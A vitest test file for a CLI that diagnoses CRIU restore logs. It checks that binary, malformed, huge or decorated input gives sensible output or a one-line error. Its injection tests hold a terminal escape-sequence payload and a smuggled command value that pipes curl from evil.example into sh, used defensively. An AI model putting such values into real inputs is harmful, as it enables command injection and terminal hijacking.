// Hostile input: whatever is fed to the engine or the CLI, the result is sensible or a one-line
// error (exit 2), never a crash, a stack trace or a hang. Each input goes through the CLI as
// people run it (lib/cli.cjs under plain node; `npm test` builds it first) and through the engine.
import { spawnSync, type SpawnSyncOptions } from "node:child_process";
import { chmodSync, closeSync, existsSync, mkdirSync, mkdtempSync, openSync, rmSync, symlinkSync, writeFileSync, writeSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDiagnoser, createMatcher } from "../rules/engine.js";
import { ruleset } from "../rules/generated/ruleset.js";
import { diagnose } from "../rules/index.js";
import type { Diagnosis } from "../rules/types.js";
import { expectContract, physicalLines } from "./helpers/contract.js";

const root = join(import.meta.dirname, "..");
const cli = join(root, "lib", "cli.cjs");
const PID = "(00.021345)  16817: Error (criu/cr-restore.c:1539): Pid 17550 do not match expected 16817";
const matcher = createMatcher(ruleset);

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Runs the CLI; a run that outlives `timeout` is a hang and fails the test. */
function run(args: string[], input?: string | Buffer, opts: SpawnSyncOptions = {}, timeout = 60_000): Run {
  const t = performance.now();
  const r = spawnSync(process.execPath, [cli, ...args], {
    input,
    encoding: "utf8",
    timeout,
    maxBuffer: 1 << 28,
    env: { ...process.env, NO_COLOR: "1" },
    ...opts,
  });
  expect(r.error, `criu-doctor ${args.join(" ")} did not finish: ${r.error?.message}`).toBeUndefined();
  expect(r.signal, `criu-doctor ${args.join(" ")} was killed by ${r.signal}`).toBeNull();
  return { status: r.status, stdout: String(r.stdout), stderr: String(r.stderr), ms: performance.now() - t };
}

/** Runs a shell line (pipes, closed descriptors) with the CLI as $CLI. */
function sh(script: string, timeout = 60_000): Run {
  const t = performance.now();
  const r = spawnSync("bash", ["-o", "pipefail", "-c", script], { encoding: "utf8", timeout, env: { ...process.env, CLI: cli, NO_COLOR: "1" } });
  expect(r.error, `${script} did not finish`).toBeUndefined();
  return { status: r.status, stdout: r.stdout, stderr: r.stderr, ms: performance.now() - t };
}

const NO_STACK = /^\s+at |Error: |node:internal|\.js:\d+:\d+/m;

/** A sensible result: exit 0 or 1 as the findings say, nothing on stderr, JSON that fits the contract. */
function expectResult(r: Run, lines = Infinity): Diagnosis {
  expect(r.stderr).toBe("");
  const d = JSON.parse(r.stdout) as Diagnosis;
  expectContract(d, ruleset, { lines });
  expect(r.status).toBe(d.findings.length ? 0 : 1);
  return d;
}

/** A one-line error on stderr and exit 2, no stack trace. */
function expectOneLineError(r: Run, message: RegExp) {
  expect(r.status).toBe(2);
  expect(r.stderr.endsWith("\n")).toBe(true);
  expect(r.stderr.trimEnd().split("\n"), r.stderr).toHaveLength(1);
  expect(r.stderr).toMatch(/^criu-doctor: /);
  expect(r.stderr.trimEnd()).toMatch(message);
  expect(r.stderr).not.toMatch(NO_STACK);
}

/** The engine on the same bytes: pushed as bytes in 64 KiB chunks, and as text to the plain engine. */
function engine(bytes: Uint8Array, text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes)): Diagnosis {
  const fast = createDiagnoser(matcher);
  for (let i = 0; i < bytes.length; i += 65536) fast.pushBytes(bytes.subarray(i, i + 65536));
  const got = fast.end();
  expectContract(got, ruleset, { lines: physicalLines(text) });
  expect(got).toEqual(createDiagnoser(matcher, { plain: true }).push(text).end());
  return got;
}

let dir: string;
const file = (name: string, content: string | Uint8Array) => {
  const p = join(dir, name);
  writeFileSync(p, content);
  return p;
};

/** Deterministic pseudo-random bytes (xorshift), NULs and all. */
function randomBytes(n: number, seed = 0x2545f491): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

beforeAll(() => {
  expect(existsSync(cli), "lib/cli.cjs is missing: run npm run build:lib").toBe(true);
  dir = mkdtempSync(join(tmpdir(), "criu-doctor-hostile-"));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("empty and blank input", () => {
  it("an empty file: no finding, exit 1", () => {
    const d = expectResult(run(["--json", file("empty.log", "")]));
    expect(d).toEqual({ criu: null, wrapper: null, findings: [], unmatched: [] });
    expect(engine(new Uint8Array())).toEqual(d);
  });

  it("only whitespace: no finding, exit 1", () => {
    const ws = " \n\t\n   \r\n\r\r\n\f\v  \u00a0\u2028 ";
    expect(expectResult(run(["--json", file("blank.log", ws)])).findings).toEqual([]);
    expect(engine(new TextEncoder().encode(ws)).findings).toEqual([]);
  });

  it("standard input closed at once, or at end of file at once", () => {
    expectResult(sh(`exec 0<&-; node "$CLI" --json`));
    expectResult(sh(`node "$CLI" --json </dev/null`));
    expectResult(run(["--json", "-"], ""));
  });
});

describe("binary and badly encoded input", () => {
  it("random binary bytes and NULs", () => {
    const bytes = randomBytes(1 << 20);
    const r = run(["--json", file("random.bin", bytes)]);
    expectResult(r);
    engine(bytes);
    const nuls = new Uint8Array(1 << 20);
    expect(expectResult(run(["--json", file("nul.bin", nuls)])).findings).toEqual([]);
    expect(engine(nuls).findings).toEqual([]);
  });

  it("a finding after binary garbage keeps its line number", () => {
    const bytes = Buffer.concat([Buffer.from(randomBytes(100_000).map((b) => (b === 10 || b === 13 ? 32 : b))), Buffer.from(`\n${PID}\n`)]);
    const want = { id: "pid-mismatch", line: 2 };
    expect(expectResult(run(["--json", file("garbage-then-log.bin", bytes)])).findings[0]).toMatchObject(want);
    expect(engine(bytes).findings[0]).toMatchObject(want);
  });

  it("invalid UTF-8: truncated, overlong and surrogate sequences, lone continuation bytes", () => {
    const bad = [[0xc3, 0x28], [0xe2, 0x82], [0xf0, 0x90, 0x80], [0x80, 0xbf], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xfe]];
    const bytes = Buffer.concat([...bad.map((b) => Buffer.from([...b, 0x0a])), Buffer.from(PID), Buffer.from([0xe2, 0x82, 0x0a])]);
    const d = expectResult(run(["--json", file("bad-utf8.log", bytes)]), bad.length + 1);
    expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: bad.length + 1, captures: { got: "17550", expected: "16817" } });
    expect(engine(bytes)).toEqual(d);
  });

  it("UTF-16 with a BOM, little- and big-endian, with CRLF line ends", () => {
    const text = `(00.000001) Version: 3.19 (gitid v3.19)\r\n${PID}\r\n`;
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    const be = Buffer.from(le.subarray(2)).swap16();
    for (const [name, bytes] of [["le.log", le], ["be.log", Buffer.concat([Buffer.from([0xfe, 0xff]), be])]] as const) {
      const d = expectResult(run(["--json", file(name, bytes)]), 2);
      expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: 2 });
      expect(d.criu?.version).toBe("3.19");
    }
    // Through standard input too, where the BOM arrives in the first chunk.
    expect(expectResult(run(["--json"], le)).findings[0]).toMatchObject({ line: 2 });
  });

  it("a UTF-8 BOM", () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${PID}\n`)]);
    const d = expectResult(run(["--json", file("bom8.log", bytes)]), 1);
    expect(d.findings[0]).toMatchObject({ line: 1, text: PID });
    expect(engine(bytes)).toEqual(d);
  });
});

describe("line ends", () => {
  const log = ["(00.000001) Version: 3.19 (gitid v3.19)", "(00.001000) Restoring processes", PID, "(00.021920) Error (criu/cr-restore.c:2324): Restoring FAILED."];
  for (const [name, eol] of [["LF", "\n"], ["CRLF", "\r\n"], ["CR only", "\r"]] as const) {
    it(`${name}: the finding is on line 3`, () => {
      const text = log.join(eol) + eol;
      const d = expectResult(run(["--json", file(`eol-${name}.log`, text)]), 4);
      expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: 3, text: PID });
      expect(d.criu).toEqual({ version: "3.19", phase: "restore" });
      expect(engine(new TextEncoder().encode(text))).toEqual(d);
    });
  }

  it("mixed line ends, a CRLF split across chunks", () => {
    const text = `a\r\nb\rc\n${PID}\r\n\r\r\n`;
    const bytes = new TextEncoder().encode(text);
    const want = diagnose(text);
    expect(want.findings[0]).toMatchObject({ line: 4 });
    for (let cut = 1; cut < bytes.length; cut++) {
      const d = createDiagnoser(matcher);
      d.pushBytes(bytes.subarray(0, cut)).pushBytes(bytes.subarray(cut));
      expect(d.end()).toEqual(want);
    }
  });
});

describe("huge input", () => {
  it("a single 50 MB line on standard input, then a CRIU line", () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, "x");
    const r = run(["--json"], Buffer.concat([Buffer.from("Error (criu/x.c:1): "), huge, Buffer.from(`\n${PID}\n`)]));
    const d = expectResult(r, 2);
    expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: 2 });
    // The over-long line is listed, cut to what the matcher looked at.
    expect(d.unmatched[0]!.line).toBe(1);
    expect(d.unmatched[0]!.text.length).toBeLessThanOrEqual(16 * 1024);
    expect(r.ms).toBeLessThan(30_000);
  });

  it("the engine streams a 50 MB line in 64 KiB chunks in linear time, as text or bytes", () => {
    const chunk = "y".repeat(65536);
    const bytes = new TextEncoder().encode(chunk);
    for (const asBytes of [false, true]) {
      const t = performance.now();
      const d = createDiagnoser(matcher);
      for (let i = 0; i < 800; i++) (asBytes ? d.pushBytes(bytes) : d.push(chunk));
      if (asBytes) d.pushBytes(new TextEncoder().encode(`\n${PID}\n`));
      else d.push(`\n${PID}\n`);
      expect(d.end().findings[0]).toMatchObject({ line: 2 });
      // Copying a 1 MB carry for every chunk took tens of seconds here.
      expect(performance.now() - t).toBeLessThan(5_000);
    }
  });

  it("a 1 GiB file (sparse: NULs, then a CRIU line at the end)", () => {
    const p = join(dir, "1g.log");
    const fd = openSync(p, "w");
    writeSync(fd, Buffer.from(`\n${PID}\n`), 0, undefined, 1024 * 1024 * 1024);
    closeSync(fd);
    const r = run(["--json", p], undefined, {}, 120_000);
    expect(expectResult(r, 2).findings[0]).toMatchObject({ id: "pid-mismatch", line: 2 });
    rmSync(p);
  });
});

describe("wrapped and decorated logs", () => {
  it("ANSI colour codes and terminal titles", () => {
    const text = `\x1b]0;criu\x07\x1b[1;31m${PID.replace("Pid", "\x1b[0mPid")}\x1b[0m\n\x1b[2K\x1b[?25l\n`;
    const d = expectResult(run(["--json", file("ansi.log", text)]), 2);
    expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: 1, text: PID });
    expect(engine(new TextEncoder().encode(text))).toEqual(d);
  });

  it("JSON-escaped logs: a container log line and a logrus message", () => {
    const text =
      JSON.stringify({ log: `${PID}\n`, stream: "stderr" }) +
      "\n" +
      `time="2024-01-01T00:00:00Z" level=error msg="criu failed: type NOTIFY errno 0\\nlog file: /run/x/restore.log\\n${PID.replace(/"/g, '\\"')}"\n`;
    const d = expectResult(run(["--json", file("json.log", text)]), 2);
    expect(d.findings.map((f) => f.id)).toContain("pid-mismatch");
    expect(d.findings.find((f) => f.id === "pid-mismatch")).toMatchObject({ line: 1, text: expect.stringContaining("Pid 17550 do not match expected 16817") });
    expect(engine(new TextEncoder().encode(text))).toEqual(d);
  });

  it("> -quoted logs, as in an e-mail or an issue", () => {
    const text = `> ${PID}\n>> ${PID}\n> > (00.021920) Error (criu/cr-restore.c:2324): Restoring FAILED.\n`;
    const d = expectResult(run(["--json", file("quoted.log", text)]), 3);
    expect(d.findings[0]).toMatchObject({ id: "pid-mismatch", line: 1, captures: { got: "17550", expected: "16817" }, count: 2 });
    expect(engine(new TextEncoder().encode(text))).toEqual(d);
  });
});

describe("no injection", () => {
  it("terminal control sequences in a log never reach the terminal: C0, ESC and C1 (U+009B is CSI)", () => {
    const evil = `\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07 \u009b2J\u009d0;pwned\u009c \x1bP+q\x1b\\ \x08\x08\x7f`;
    const text = `(00.1) Error (criu/cr-restore.c:1): Pid 1 do not match expected 2 ${evil}\n(00.2) Error (criu/x.c:9): unknown ${evil}\n`;
    const r = run([file("controls.log", text)], undefined, { env: { ...process.env, NO_COLOR: "1" } });
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("pid-mismatch");
    expect(r.stdout).toContain("unknown"); // the unmatched line is listed too
    expect(r.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    const d = engine(new TextEncoder().encode(text));
    for (const t of [...d.findings.map((f) => f.text), ...d.unmatched.map((u) => u.text)]) expect(t).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });

  it("a captured value that is not one plain word is never put into a suggested command", () => {
    const script = "/x;curl${IFS}evil.example|sh";
    const text = `(00.093422) Error (criu/action-scripts.c:94): Script ${script} exited with -1\n`;
    const d = engine(new TextEncoder().encode(text));
    expect(d.findings[0]).toMatchObject({ id: "action-script-failed", captures: { script } });
    const r = run([file("inject.log", text)]);
    expect(r.status).toBe(0);
    // Shown as what the log says, but the commands to paste keep the placeholder.
    expect(r.stdout).toContain(`captured: script=${script}`);
    const commands = r.stdout.split("\n").filter((l) => /^ {7}\S/.test(l));
    expect(commands.length).toBeGreaterThan(0);
    for (const c of commands) expect(c).not.toContain("curl");
    expect(commands.join("\n")).toContain("<script>");
    // A plain value is still filled in.
    const plain = run([file("plain.log", text.replace(script, "/usr/share/lxc/hooks/netdown"))]);
    expect(plain.stdout).toMatch(/^ {7}.*\/usr\/share\/lxc\/hooks\/netdown/m);
  });
});

describe("files that cannot be read", () => {
  it("a missing file", () => {
    expectOneLineError(run(["--json", join(dir, "nope.log")]), /nope\.log: no such file$/);
  });

  it("a dangling symbolic link", () => {
    const p = join(dir, "dangling.log");
    symlinkSync(join(dir, "gone"), p);
    expectOneLineError(run([p]), /dangling\.log: no such file$/);
  });

  it("a directory: its files are read; an empty one gives no finding", () => {
    const d = join(dir, "empty-dir");
    mkdirSync(d);
    const r = run(["--json", d]);
    expect(r).toMatchObject({ status: 1, stderr: "", stdout: "[]\n" });
    expect(run([d])).toMatchObject({ status: 1, stderr: "" });
  });

  it("a directory holding a FIFO, a symlink loop and a dangling link: only its regular files are read", () => {
    const d = join(dir, "odd-dir");
    mkdirSync(join(d, "sub"), { recursive: true });
    writeFileSync(join(d, "sub", "restore.log"), `${PID}\n`);
    symlinkSync(d, join(d, "sub", "loop")); // a walk that followed it would never end
    symlinkSync(join(d, "gone"), join(d, "dangling.log"));
    symlinkSync(join(d, "sub", "restore.log"), join(d, "linked.log"));
    expect(spawnSync("mkfifo", [join(d, "fifo.log")]).status).toBe(0); // no writer: reading it would block
    const r = run(["--json", d], undefined, {}, 30_000);
    expect(r.stderr).toBe("");
    expect(r.status).toBe(0);
    const docs = JSON.parse(r.stdout) as { file: string; findings: { line: number }[] }[];
    expect(docs.map((x) => x.file.slice(d.length))).toEqual(["/linked.log", "/sub/restore.log"]);
    for (const x of docs) expect(x.findings[0]).toMatchObject({ line: 1 });
  });

  it("a file that cannot be read: /proc/self/mem gives an I/O error", () => {
    expectOneLineError(run(["/proc/self/mem"]), /\/proc\/self\/mem: input\/output error$/);
  });

  const setpriv = spawnSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, "-e", `require("fs").accessSync(${JSON.stringify(cli)})`]);
  it.skipIf(setpriv.status !== 0)("an unreadable file, for a user other than root", () => {
    chmodSync(dir, 0o755); // mkdtemp makes it 0700
    const p = file("secret.log", `${PID}\n`);
    chmodSync(p, 0o000);
    const r = spawnSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", process.execPath, cli, p, join(dir, "eol-LF.log")], { encoding: "utf8", timeout: 30_000 });
    // The other file is still diagnosed; the status says an input failed.
    expectOneLineError({ status: r.status, stdout: r.stdout, stderr: r.stderr, ms: 0 }, /secret\.log: permission denied$/);
    expect(r.stdout).toContain("pid-mismatch");
  });
});

describe("output", () => {
  it("piped into head: ends quietly, whatever the reader takes", () => {
    const big = file("many.log", `${PID}\nnoise\n`.repeat(5_000));
    for (const reader of ["head -n 1", "head -c 1", "true"]) {
      for (const json of ["", "--json"]) {
        const r = sh(`node "$CLI" ${json} "${big}" "${big}" "${big}" | ${reader} >/dev/null`);
        expect(r.stderr, `${reader} ${json}`).toBe("");
        expect(r.status, `${reader} ${json}`).toBe(0);
      }
    }
  });

  it("an unknown option or a missing argument: one line, exit 2", () => {
    expectOneLineError(run(["--bogus"]), /unknown option --bogus/);
    expectOneLineError(run(["--explain"]), /--explain needs an article id/);
  });
});
